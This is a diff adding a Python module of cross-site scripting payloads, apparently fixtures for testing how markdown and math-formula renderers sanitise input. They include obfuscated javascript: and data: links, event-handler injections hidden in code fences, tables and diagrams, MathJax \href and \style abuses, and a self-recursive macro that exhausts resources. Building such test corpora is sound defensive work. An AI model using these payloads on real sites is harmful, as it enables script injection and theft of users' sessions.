@@ -1,0 +1,98 @@
+"""Payloads that need markdown's own way of reading, or a formula's."""
+
+from __future__ import annotations
+
+from active_content.in_html import IMG
+from active_content.payload import payloads
+
+LINKS = {
+    "link": "[press](javascript:CANARY)",
+    "link in angle brackets": "[press](<javascript:CANARY>)",
+    "link by an entity": "[press](java&#x73;cript:CANARY)",
+    "link by a named colon": "[press](javascript&colon;CANARY)",
+    "link by a named tab": "[press](java&Tab;script:CANARY)",
+    "link by percent signs": "[press](%6Aavascript:CANARY)",
+    "link in odd letters": "[press]( JaVaScRiPt:CANARY 'title')",
+    "link vbscript:": "[press](vbscript:CANARY)",
+    "link data:": "[press](data:text/html;base64,«b64:<script>CANARY</script>»)",
+    "link by a backslash": "[press](javascript\\:CANARY)",
+    "link by reference": "[press][1MARK]\n\n[1MARK]: javascript:CANARY",
+    "link by reference, title": "[press][2MARK]\n\n[2MARK]: <java&#x73;cript:CANARY>\n  'title'",
+    "link by reference in a quote": "[3MARK]\n\n> [3MARK]: javascript:CANARY",
+    "link by itself": "<javascript:CANARY>",
+    "link by itself, data:": "<data:text/html;base64,«b64:<script>CANARY</script>»>",
+    "link's title": '[press](https://example.invalid/ "a\\" onmouseover=\\"CANARY")',
+    "link's title by entities": "[press](# 'a&quot; onmouseover=&quot;CANARY')",
+    "link's address with a quote": '[press](#"onmouseover="CANARY")',
+    "link's text": f"[{IMG}](#)",
+    "link around a link": "[a [press](javascript:CANARY) b](#)",
+    "link in brackets": "[![x](#)](javascript:CANARY)",
+    "picture": "![press](javascript:CANARY)",
+    "picture's text": '![x" onerror="CANARY](x:)',
+    "picture's title": "![x](x: 'a\" onerror=\"CANARY')",
+    "picture's address": '![x](x:"onerror="CANARY)',
+    "picture of svg": "![x](data:image/svg+xml;base64,«b64:<svg xmlns='http://www.w3.org/2000/svg'"
+    "><script>CANARY</script></svg>»)",
+}
+BLOCKS = {
+    "heading": f"# {IMG}",
+    "heading with a bare ampersand": f"# a & b {IMG}",
+    "table": f"| a |\n| - |\n| {IMG} |",
+    "table's head": "| <b onmouseover=CANARY>x</b> |\n| - |\n| b |",
+    "quote in a list": f"- > 1. {IMG}",
+    "footnote": f"a[^MARK]\n\n[^MARK]: {IMG}",
+    "task": f"- [x] {IMG}",
+    "definition": f"a\n: {IMG}",
+    "struck through": f"~~{IMG}~~",
+    "emphasis through a tag": f"*a <b title='*'>{IMG}</b>",
+    "markdown in html": "<div>\n\n[press](javascript:CANARY)\n\n</div>",
+    "html in markdown in html": f"<div title='\n\n{IMG}\n\n'>",
+    "markdown in a details": "<details><summary>a</summary>\n\n[press](javascript:CANARY)\n</details>",
+    "code that holds a quote": f"`<p title='`{IMG}`'>`",
+    "code that holds a comment": f"`<!--`{IMG}`-->`",
+    "code of two ticks": f'`` <p title=" ` `` {IMG} `">`',
+    "code block that holds a quote": f'```\n<p title="\n```\n\n{IMG}\n\n```\n">\n```',
+    "code block that holds a comment": f"~~~\n<!--\n~~~\n\n{IMG}\n\n~~~\n-->\n~~~",
+    "code by its indent": f"    <p title='\n\n{IMG}\n\n    '>",
+    "code block's end": f"```html\n</code></pre>{IMG}\n```",
+    "code block's language": f'```"><img{IMG[4:]}\nx\n```',
+    "code block's language, known": '```python" onmouseover="CANARY\nx\n```',
+    "diagram": f"```mermaid\n{IMG}\n```",
+    "diagram with a label": f'```mermaid\ngraph TD\nA["{IMG}"] --> B\nclick A "javascript:CANARY"\n```',
+    "diagram in odd clothes": f"```mermaid-x y\n</pre></div>{IMG}\n```",
+    "backslashes": f"\\{IMG} \\\\{IMG} \\`{IMG}\\`",
+    "entities": "&lt;img src=x: onerror=CANARY&gt; &#60;img src=x: onerror=CANARY&#62;",
+    "comment over paragraphs": f"<!-- a\n\n--> {IMG} <!--\n\n-->",
+    "html whose end is a blank line": f"<style>\n\n{IMG}\n\n</style>",
+    "script by paragraphs": "<script>\n\nCANARY\n\n</script>",
+    "raw html's attribute over lines": "<b\n\nonmouseover=CANARY>x</b>\n<b\nonmouseover=CANARY>x</b>",
+    "line that is no heading": f"a\n==={IMG}\n---",
+}
+FORMULAS = {
+    "formula": f"${IMG}$",
+    "formula, displayed": f"$$\n{IMG}\n$$",
+    "formula of an environment": f"\\begin{{align}}{IMG}\\end{{align}}",
+    "formula that holds a quote": f"$<p title='${IMG}$'>$",
+    "formula that holds a comment": f"$$<!--$$ {IMG} $$-->$$",
+    "formula that holds a tick": f"$`$ {IMG} $`$",
+    "formula in round brackets": f"\\\\({IMG}\\\\) \\\\[{IMG}\\\\]",
+    "href": "$\\href{javascript:CANARY}{press}$",
+    "href by percent signs": "$\\href{java%73cript:CANARY}{press}$",
+    "href data:": "$\\href{data:text/html,<script>CANARY</script>}{press}$",
+    "href by a macro": "$\\def\\j{javascript:CANARY}\\href{\\j}{press}$",
+    "unicode": "$\\unicode{x3c}img src=x: onerror=CANARY\\unicode{x3e}$",
+    "unicode's font": "$\\unicode[x' onmouseover='CANARY]{x41}$",
+    "style": "$\\style{background:url(URL);position:fixed;top:0}{x}$",
+    "box": "$\\bbox[background:url(URL),position:fixed]{x}$",
+    "class and id": "$\\class{full-credit MARK}{\\cssId{MARK}{x}}$",
+    "token": "$\\mmlToken{mi}[onmouseover='CANARY' href='javascript:CANARY']{press}$",
+    "text in a formula": f"$\\text{{{IMG}}}$",
+    "label": '$$x\\label{"><img src=x: onerror=CANARY>}$$',
+    "require": "$\\require{html}\\href{javascript:CANARY}{press}$",
+    "macro for ever": "$\\def\\x{\\x\\x}\\x$",
+    "link of svg in a formula": "$\\unicode{60}/p$ <svg><a href=javascript:CANARY><text y=9>p</text></a></svg>",
+}
+
+SWALLOW = ["html in markdown in html", "html whose end is a blank line", "comment over paragraphs"]
+
+IN_MARKDOWN = payloads(LINKS | BLOCKS | FORMULAS, SWALLOW)
